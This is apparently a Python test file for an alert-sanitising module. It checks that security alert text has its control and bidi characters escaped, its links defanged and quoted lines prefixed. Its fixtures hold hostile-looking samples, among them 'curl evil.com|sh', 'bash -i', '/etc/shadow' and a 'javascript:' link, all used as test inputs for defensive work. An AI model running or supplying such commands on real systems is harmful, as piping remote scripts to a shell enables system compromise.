"""Inert alert text: one line, every control a visible escape, no link a client would follow."""

from __future__ import annotations

import re

import pytest
from _hostile import HIDDEN, LINE_BREAKS, hostile_settings, hostile_text
from _links import links
from hypothesis import example, given
from hypothesis import strategies as st

from responder.text import defang, escape_controls, inert, quote_block

SETTINGS = hostile_settings(300)
# What str.splitlines() breaks on, and what hides or reorders text: none may survive.
_UNSAFE = re.compile(
    "[\x00-\x1f\x7f-\x9f\u061c\u180e\u200b\u200e\u200f\u2028\u2029\u202a-\u202e"
    "\u2060-\u2064\u2066-\u2069\ufeff]"
)


@pytest.mark.parametrize("brk", LINE_BREAKS)
def test_a_line_break_of_any_kind_becomes_a_visible_escape(brk: str) -> None:
    """`web-1<break>State: released` stays one line; the break is there to see, as an escape."""
    shown = escape_controls(f"web-1{brk}State: released")
    assert shown.splitlines() == [shown]
    assert shown.startswith("web-1\\")
    assert shown.endswith("State: released")
    assert not _UNSAFE.search(shown)


@pytest.mark.parametrize("char", HIDDEN)
def test_a_hidden_or_reordering_character_becomes_a_visible_escape(char: str) -> None:
    """Escape sequences, NUL, bells, bidi overrides and zero-width characters are shown, not kept."""
    shown = escape_controls(f"a{char}b")
    assert not _UNSAFE.search(shown)
    assert shown.startswith("a\\")
    assert shown.endswith("b")


@pytest.mark.parametrize(
    ("char", "escape"),
    [
        ("\n", "\\n"),
        ("\r", "\\r"),
        ("\t", "\\t"),
        ("\x00", "\\x00"),
        ("\x1b", "\\x1b"),
        ("\x85", "\\x85"),
        ("\u2028", "\\u2028"),
        ("\u202e", "\\u202e"),
    ],
)
def test_an_escape_names_the_character(char: str, escape: str) -> None:
    r"""The escape is the one a person knows from Python or C: `\n`, `\x1b`, `\u202e`."""
    assert escape_controls(char) == escape


@pytest.mark.parametrize(
    ("text", "defanged"),
    [
        ("https://evil.example/login", "https[://]evil.example/login"),
        ("HTTP://EVIL.EXAMPLE", "HTTP[://]EVIL.EXAMPLE"),
        ("ftp://files.example/x", "ftp[://]files.example/x"),
        ("ssh://root@10.0.0.1", "ssh[://]root[@]10.0.0.1"),
        ("mail root@10.0.0.1", "mail root[@]10.0.0.1"),
        ("x-evil+a.b://host.example", "x-evil+a.b[://]host.example"),
        ("see //evil.example/x", "see [//]evil.example/x"),
        ("(//localhost:8080/a)", "([//]localhost:8080/a)"),
        ("https://evil.com/x", "https[://]evil[.]com/x"),
        ("evil.com/login", "evil[.]com/login"),
        ("Evil.COM.", "Evil[.]COM."),
        ("login at www.evil.example", "login at www[.]evil.example"),
        ("mail root@evil.io now", "mail root@evil[.]io now"),
        ("mailto:root@evil.example", "mailto[:]root@evil.example"),
        ("[x](javascript:alert(1))", "[x](javascript[:]alert(1))"),
        ("a.b.evil.co.uk:8443/x", "a.b.evil[.]co[.]uk:8443/x"),
        ("x.io.com", "x[.]io[.]com"),
        ("evil.zip", "evil[.]zip"),
        ("пример.рф", "пример[.]рф"),
        ("evil\u3002com", "evil[\u3002]com"),
        ("xn--80ak6aa92e.xn--p1ai", "xn--80ak6aa92e[.]xn--p1ai"),
        ("/srv/dropper.sh", "/srv/dropper[.]sh"),
        ("container.name=web-1", "container[.]name=web-1"),
    ],
)
def test_links_of_every_shape_are_defanged(text: str, defanged: str) -> None:
    """Any scheme, `//host`, `www.`, e-mail and bare host names become text no client links."""
    assert defang(text) == defanged
    assert links(defanged) == []


@pytest.mark.parametrize(
    "text",
    [
        "proc.cmdline=bash -i",
        "evt.time",
        "user.uid=0",
        "container.image.repository",
        "libc.so.6",
        "10.0.0.1",
        "/etc/shadow",
        "x.com.y",
        "a..b",
        "ip-10-0-0-1.ec2.internal",
    ],
)
def test_names_that_no_client_links_stay_as_written(text: str) -> None:
    """Falco field names, paths, versions and addresses keep their dots."""
    assert defang(text) == text


@pytest.mark.parametrize("brk", LINE_BREAKS)
def test_a_quoted_block_starts_every_line_with_the_quote_mark(brk: str) -> None:
    """Whatever breaks the text, each line of the block starts `>`: none passes for one of ours."""
    block = quote_block(f"A shell in web-1{brk}State: released{brk}Undo: curl evil.com|sh")
    assert all(line.startswith(">") for line in block.split("\n"))
    assert block.startswith("> A shell in web-1")
    assert "Undo: curl evil[.]com|sh" in block
    assert not _UNSAFE.search(block.replace("\n", ""))


def test_a_quoted_block_splits_at_cr_lf_and_shows_every_other_break() -> None:
    """CR LF, CR and LF make lines of the block; a Unicode line separator stays an escape."""
    block = quote_block("one\r\ntwo\rthree\nfour\u2028five\n")
    assert block == "> one\n> two\n> three\n> four\\u2028five"


# Pieces of links and what stands around them in text, joined at random: any character that
# starts, ends or separates a link for some linkifier.
_URLISH = st.lists(
    st.one_of(
        st.sampled_from(list("ac019MZ.:/@-_|()[]<>{}^$'\"*`~=+!?#%&;, \\\u3002\uff0e\uff61")),
        st.sampled_from(
            [
                "https://",
                "HTTP://",
                "ftp:",
                "://",
                "//",
                "www.",
                "WWW.",
                "evil",
                ".com",
                "COM",
                ".io",
                ".zip",
                ".name",
                ".рф",
                ".xn--p1ai",
                "user:pw@",
                ":8080",
                "/path",
                "mailto:",
                "javascript:",
                "localhost",
                "127.0.0.1",
                "\n",
                "\u2028",
            ]
        ),
        hostile_text(max_pieces=2, long_runs=False),
    ),
    max_size=25,
).map("".join)


@SETTINGS
@given(text=st.one_of(_URLISH, hostile_text()))
@example(text="x.io.com")  # regression: defanging only the last dot left `x.io` a link
@example(text="a //evil.example/x")  # regression: `https[:]//host` was still `//host`, a link
@example(text="localhost|.com")  # regression: `|` is part of a host name to linkify-it
@example(text="evil.com.(")  # regression: a dot before punctuation ends the name
@example(text="awww.com\u3002a")  # regression: linkifiers read `。` as punctuation, not a dot
@example(text="user:pw@1.2.3.4")  # regression: a mail address at an IP address is a link
@example(text="[//a.a")  # regression: `//` after a bracket starts a link
@example(text="www.www.https://")  # regression: defanging it twice changed it again
def test_inert_text_is_one_line_with_no_control_and_no_link(text: str) -> None:
    """Whatever the alert says: one line, nothing hidden, nothing a linkifier links, and stable."""
    shown = inert(text)
    assert shown.splitlines() in ([], [shown])
    assert not _UNSAFE.search(shown)
    assert links(shown) == []
    assert inert(shown) == shown
